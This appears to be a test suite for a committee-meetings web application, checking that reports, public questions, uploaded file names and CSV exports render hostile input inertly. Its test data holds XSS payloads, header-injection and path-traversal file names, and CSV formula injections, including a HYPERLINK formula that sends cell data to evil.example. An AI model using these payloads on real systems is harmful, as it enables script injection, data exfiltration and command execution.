/** What people type and upload for meetings, made to do harm: in pages, tables and headers. */
import assert from 'node:assert/strict'
import { after, before, test } from 'node:test'
import { closeReaders } from '../../src/records/index.ts'
import { makeCommitteeWorld, meeting, person, type World } from '../committee-world.ts'
import { foreignPdf } from '../foreign-pdf.ts'
import { assertOnlyShown, scripts } from './marks.ts'

let world: World
before(async () => (world = await makeCommitteeWorld()))
after(async () => {
  closeReaders()
  await world.db.close()
})

/** Words that would be a link, a picture, a tag or a page of somebody else's. */
const typed = [
  ...scripts,
  '[a](javascript:zq9())',
  '[a](JaVaScRiPt:zq9())',
  '[a](data:text/html,zq9)',
  '[a]( javascript:zq9())',
  '<javascript:zq9()>',
  '[a](//evil.example/zq9 "x")',
  '![zq9](data:image/svg+xml,<svg onload=zq9()>)',
  '![zq9](https://evil.example/zq9.png)',
  '[a](https://x.example/"onmouseover="zq9())',
  '| a | b |\n|---|---|\n| <b onclick=zq9()> | [a](vbscript:zq9()) |',
]

test('words of a report, its title and its details are only ever shown', async () => {
  await world.past(`insert into meetings.draft (slug, body_id, meeting_id, template, title, author_id) values ('zq', 1, 1, 'report', 'Lamps', 3);
    insert into meetings.draft_version (draft_id, number, content) select id, 1, '{"sections": [], "recommendations": [], "background": []}' from meetings.draft`)
  const at = '/committee/reports/zq'
  let version = 1
  let saved = 0
  for (const words of typed) {
    const section = await world.post('author', `${at}/sections/purpose`, { words, seen: String(version), done: 'yes' })
    assert.ok(section.status < 500, words)
    assertOnlyShown(section.text, words)
    if (section.status === 303) saved += 1
    const [row] = await world.past(
      'select max(number) as n, (select revision from meetings.draft) as revision from meetings.draft_version',
    )
    version = Number(row?.['n'])
    const about = {
      title: words.slice(0, 200),
      officer: words,
      portfolio: words,
      wards: words,
      revision: String(row?.['revision']),
    }
    const details = await world.post('author', `${at}/details`, about)
    assertOnlyShown(details.text, words)
    for (const who of ['author', 'clerk', 'monitoring'] as const)
      for (const end of ['', '/preview', '/preview?for=public', '/changes?from=1&to=2']) {
        const { status, text } = await world.get(who, `${at}${end}`)
        assert.ok(status < 500, `${who} ${end} ${words}`)
        assertOnlyShown(text, `${who} ${end} ${words}`)
        assert.doesNotMatch(text, /src="https?:/, 'no picture comes from elsewhere')
      }
    version = Number((await world.past('select max(number) as n from meetings.draft_version'))[0]?.['n'])
  }
  assert.ok(saved > 3, `${saved} were saved`)
})

test('words of a public question are only ever shown, to clerks and to the public', async () => {
  const asked = typed.slice(0, 6)
  for (const words of asked) {
    const answer = await world.post(null, `/meetings/${meeting.slug}/ask`, {
      about: words,
      words: `${words} ${words}`,
      name: words.slice(0, 100),
      address: words,
      postcode: 'TM4 2QB',
      organisation: words.slice(0, 100),
      resident: 'yes',
      application: 'no',
      named: 'yes',
      seen: 'seen',
    })
    assert.equal(answer.status, 303, answer.text.slice(0, 2000))
    assertOnlyShown((await world.get(null, answer.location)).text, words)
  }
  await world.past(
    `update meetings.question set state = 'accepted', decided_at = now(), published_at = now(), outcome = 'answered', answer = words, supplementary = words`,
  )
  for (const address of ['/questions', `/meetings/${meeting.slug}`, '/feeds/meetings.atom'])
    assertOnlyShown((await world.get(null, address)).text, address)
  const desk = `/committee/meetings/${meeting.slug}/questions`
  assertOnlyShown((await world.get('clerk', desk)).text, desk)
  for (const { slug } of await world.past('select slug from meetings.question'))
    assertOnlyShown((await world.get('clerk', `${desk}/${String(slug)}`)).text, 'one')
})

test('the name of a file goes into a header as a name, whatever it is', async () => {
  const names = [
    'a";filename="b.html',
    'a\r\nX-Zq9: 1.pdf',
    '../../../etc/passwd.pdf',
    '‮fdp.exe',
    'ä'.repeat(300),
    '<script>zq9()</script>.pdf',
    "a'%00.pdf",
  ]
  for (const name of names) {
    const file = new File([Uint8Array.from(await foreignPdf(['A page']))], name, { type: 'text/html' })
    const made = await world.post('author', '/committee/reports/zq/files/new', {
      kind: 'appendix',
      title: 'A',
      alt: '',
      file,
    })
    assert.equal(made.status, 303, made.text.slice(0, 3000))
    const { headers } = await world.get('author', `${made.location.split('?')[0]}/file`)
    assert.equal(headers.get('content-type'), 'application/pdf')
    assert.equal(headers.get('x-zq9'), null)
    assert.match(
      headers.get('content-disposition') ?? '',
      /^(?:inline|attachment); filename="[^"\\/]*"; filename\*=UTF-8''[^"'\s;]*$/,
    )
    assert.doesNotMatch(headers.get('content-disposition') ?? '', /\.\.|%2F|%0D|%0A|%E2%80%AE/i)
  }
})

test('a file is what its bytes are: a web page, a drawing with a script or a program is none of those asked for', async () => {
  const bodies = {
    html: '<html><script>zq9()</script>',
    svg: '<svg xmlns="http://www.w3.org/2000/svg" onload="zq9()"/>',
    exe: 'MZ\0\0\0\0',
  }
  for (const [end, words] of Object.entries(bodies))
    for (const kind of ['appendix', 'presentation', 'picture']) {
      const file = new File([words], `a.${end}`, { type: 'application/pdf' })
      assert.equal(
        (await world.post('author', '/committee/reports/zq/files/new', { kind, title: 'A', alt: 'A', file })).status,
        422,
        `${kind} ${end}`,
      )
    }
})

test('a table for spreadsheets holds no formula, though a motion begins as one', async () => {
  await world.past(`update meetings.meeting set minutes_state = 'approved', status = 'held' where id = 2;
    insert into meetings.minute (id, meeting_id, position, title) overriding system value values (1, 2, 0, '+cmd|x');
    insert into meetings.vote (id, meeting_id, minute_id, position, motion, kind, in_favour, against, abstained, outcome) overriding system value
      values (1, 2, 1, 0, '=HYPERLINK("https://evil.example?"&A1,"zq9")', 'recorded', 1, 0, 0, 'carried');
    insert into meetings.ballot (vote_id, position, person_id, printed, way) values (1, 0, ${person.member}, '@SUM(zq9)', 'for');
    update people.person set name = '-2+3+cmd|'' /C calc''!A0' where id = ${person.member}`)
  const names = [...(await world.get(null, '/data')).text.matchAll(/href="(\/data\/[\w-]+\.csv)/g)].map(
    found => found[1] ?? '',
  )
  assert.ok(names.length >= 3)
  let found = 0
  for (const name of names) {
    const { text, headers } = await world.get(null, name)
    assert.match(headers.get('content-type') ?? '', /^text\/csv/)
    found += text.split('HYPERLINK').length - 1
    assert.doesNotMatch(text, /(?:^|,|\n)"?[=+\-@](?=[A-Z(@2c])/m, name)
  }
  assert.ok(found > 0)
})
